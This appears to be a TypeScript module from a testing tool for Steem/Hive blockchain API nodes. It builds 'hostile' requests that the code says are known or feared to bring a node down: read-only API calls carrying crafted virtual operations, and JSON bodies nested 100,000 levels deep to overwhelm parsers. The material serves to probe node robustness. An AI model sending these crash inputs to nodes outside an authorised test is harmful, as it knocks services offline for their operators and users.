import { call, type Request, request } from '../model/exchange/request.ts';
import type { Json } from '../model/json.ts';
import type { Discovered } from '../model/target.ts';

const virtual: Json = {
  ref_block_num: 0,
  ref_block_prefix: 0,
  expiration: '2030-01-01T00:00:00',
  operations: [
    [
      'author_reward',
      {
        author: 'a',
        permlink: 'b',
        sbd_payout: '0.001 TBD',
        steem_payout: '0.001 TESTS',
        vesting_payout: '0.000001 VESTS',
      },
    ],
  ],
  extensions: [],
  signatures: [],
};

/** The same in the object form. */
const virtualObject: Json = {
  ...(virtual as { readonly [name: string]: Json }),
  operations: [
    {
      type: 'fill_vesting_withdraw_operation',
      value: { from_account: 'a', to_account: 'b', withdrawn: '0.000001 VESTS', deposited: '0.001 TESTS' },
    },
  ],
};

/** Methods that read a transaction and broadcast nothing, with its other arguments. */
const readers: readonly (readonly [method: string, params: Json])[] = [
  ['condenser_api.get_transaction_hex', [virtual]],
  ['condenser_api.get_required_signatures', [virtual, []]],
  ['condenser_api.get_potential_signatures', [virtual]],
  ['condenser_api.verify_authority', [virtual]],
  ['database_api.get_transaction_hex', { trx: virtualObject }],
  ['database_api.get_required_signatures', { trx: virtualObject, available_keys: [] }],
  ['database_api.get_potential_signatures', { trx: virtualObject }],
  ['database_api.verify_authority', { trx: virtualObject }],
];

const depth = 100_000;

/** Bodies that a parser without limits does not survive: lists and objects in one another, and many calls in one body. */
const bodies: readonly string[] = [
  '['.repeat(depth),
  `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
  `{"jsonrpc":"2.0","method":"condenser_api.get_accounts","params":[${'['.repeat(depth)}${']'.repeat(depth)}],"id":1}`,
];

/** What is known, or has to be feared, to end a node. Profile `hostile` alone sends it; nothing of it changes the chain. */
export function hostileRequests(
  { methods }: Pick<Discovered, 'methods'>,
  selected: (method: string) => boolean,
): readonly Request[] {
  const calls = readers
    .filter(([method]) => methods.has(method) && selected(method))
    .map(([method, params]) => call(method, params));
  return [...calls, ...bodies.map(request)];
}
